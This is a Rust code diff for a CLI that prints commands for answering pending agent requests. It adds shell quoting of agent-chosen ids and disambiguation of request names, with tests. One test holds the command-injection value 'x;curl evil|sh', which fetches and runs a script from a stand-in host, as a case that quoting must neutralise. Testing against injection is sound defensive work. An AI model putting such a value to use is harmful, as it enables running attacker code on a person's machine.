@@ -257,9 +257,21 @@ fn find<'a>(session: &str, requests: &'a [Request], id: Option<&str>) -> Result<
     };
     match (id, requests) {
         (_, []) => Err(Exit::machine(format!("{session} waits for no input"))),
-        (Some(id), _) => requests.iter().find(|request| request.is_named(id)).ok_or_else(|| {
-            Exit::machine(format!("{session} has no pending request {id}; it waits for {}", listed()))
-        }),
+        (Some(id), _) => {
+            let exact = requests.iter().find(|request| request.id == id);
+            let named: Vec<&Request> = requests.iter().filter(|request| request.is_named(id)).collect();
+            match (exact, named.as_slice()) {
+                (Some(request), _) => Ok(request),
+                (None, [request]) => Ok(*request),
+                (None, []) => Err(Exit::machine(format!(
+                    "{session} has no pending request {id}; it waits for {}",
+                    listed()
+                ))),
+                (None, _) => {
+                    Err(Exit::usage(format!("{id} names several requests; name one of {}", listed())))
+                }
+            }
+        }
         (None, [one]) => Ok(one),
         (None, _) => Err(Exit::usage(format!(
             "{session} has {} pending requests; name one with request: {}",
@@ -448,7 +460,11 @@ impl PendingRequest {
             (None, None) => "a question".to_owned(),
         };
         let mut lines = vec![format!("[waiting: {head}]")];
-        let mut add = |text: String| lines.extend(indented(&text));
+        // Lines of a text do not look like those that follow it.
+        let mut add = |text: String| {
+            let shown = indented(&text).into_iter().enumerate();
+            lines.extend(shown.map(|(at, line)| if at == 0 { line } else { format!("  {line}") }));
+        };
         add(format!("request {}", self.id));
         if let Some(tool) = self.tool.as_ref().filter(|_| self.kind == APPROVAL) {
             add(format!("tool {tool}"));
@@ -472,18 +488,18 @@ impl PendingRequest {
         match self.kind.as_str() {
             APPROVAL => add(format!(
                 "answer with: ostler session approve {session} --request {id}, or ostler session reject {session} --request {id}",
-                id = self.id
+                id = quoted(&self.id)
             )),
             QUESTION => {
                 let answers: Vec<String> = match self.questions.as_slice() {
                     [] => Vec::new(),
                     [_] => vec![" <ANSWER>".to_owned()],
-                    several => several.iter().map(|one| format!(" {}=<ANSWER>", one.id)).collect(),
+                    several => several.iter().map(|one| format!(" {}=<ANSWER>", quoted(&one.id))).collect(),
                 };
                 add(format!(
                     "answer with: ostler session answer {session}{} --request {}",
                     answers.concat(),
-                    self.id
+                    quoted(&self.id)
                 ));
             }
             _ => {}
@@ -523,6 +539,15 @@ impl RequestQuestion {
 }
 
 /// The lines of a text, indented; of a long one the first, and how many follow.
+/// Returns an id, which an agent can choose, for a command line that a person copies.
+fn quoted(id: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | ':' | '/' | '-');
+    match !id.is_empty() && !id.starts_with('-') && id.chars().all(is_plain) {
+        true => id.to_owned(),
+        false => format!("'{}'", id.replace('\'', r"'\''")),
+    }
+}
+
 fn indented(text: &str) -> Vec<String> {
     prefixed("    ", text)
 }
@@ -682,14 +707,39 @@ mod tests {
             .collect();
         let lines = lines.join("\n");
         for says in [
-            "[waiting: Run: Runs ls]\n    request c1\n    tool Run\n    input {\n      \"a\": 1\n    }\n",
+            "[waiting: Run: Runs ls]\n    request c1\n    tool Run\n    input {\n        \"a\": 1\n      }\n",
             "    option never (rejects): Never\n",
             "answer with: ostler session approve 5d0c --request c1, or ostler session reject 5d0c --request c1",
             "    question name (text): Name?\n",
             "    question many (choices, optional): Many?\n      x: X\n",
-            "ostler session answer 5d0c name=<ANSWER> name=sure=<ANSWER> one=<ANSWER> many=<ANSWER> --request i1",
+            "ostler session answer 5d0c name=<ANSWER> 'name=sure'=<ANSWER> one=<ANSWER> many=<ANSWER> --request i1",
         ] {
             assert!(lines.contains(says), "{says:?} is not in {lines}");
         }
+    }
+
+    #[test]
+    fn an_id_that_an_agent_chose_is_one_word_of_the_printed_command() {
+        for (id, word) in [
+            ("call-7", "call-7"),
+            ("a b", "'a b'"),
+            ("x;curl evil|sh", "'x;curl evil|sh'"),
+            ("it's", r"'it'\''s'"),
+            ("--option", "'--option'"),
+            ("", "''"),
+        ] {
+            assert_eq!(quoted(id), word);
+        }
+    }
+
+    #[test]
+    fn a_name_of_several_requests_answers_none_of_them() {
+        let mut requests = requests();
+        let mut other = requests[0].clone();
+        other.id = "c2".to_owned();
+        requests.push(other);
+        let why = approve(Some("call"), None).action("s", &requests).unwrap_err().to_string();
+        assert!(why.starts_with("call names several requests"), "{why}");
+        assert_eq!(approve(Some("c2"), None).action("s", &requests).unwrap().answered.request, "c2");
     }
 }
